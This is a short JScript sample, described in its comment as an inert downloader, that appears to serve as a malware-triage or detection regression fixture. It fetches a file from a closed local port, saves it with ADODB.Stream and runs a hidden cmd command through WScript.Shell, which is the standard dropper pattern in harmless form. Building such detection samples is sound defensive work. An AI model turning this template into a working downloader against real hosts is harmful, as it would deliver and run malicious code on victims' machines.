// inert JScript downloader shape; the host is a closed local port
var u = "http://127.0.0.1:9/TRIAGE-REGRESSION.txt";
var x = new ActiveXObject("MSXML2.XMLHTTP");
x.open("GET", u, false);
x.send();
var st = new ActiveXObject("ADODB.Stream");
st.Type = 1; st.Open(); st.Write(x.responseBody);
st.SaveToFile("TRIAGE-REGRESSION.txt", 2);
WScript.CreateObject("WScript.Shell").Run("cmd /c type TRIAGE-REGRESSION.txt", 0);
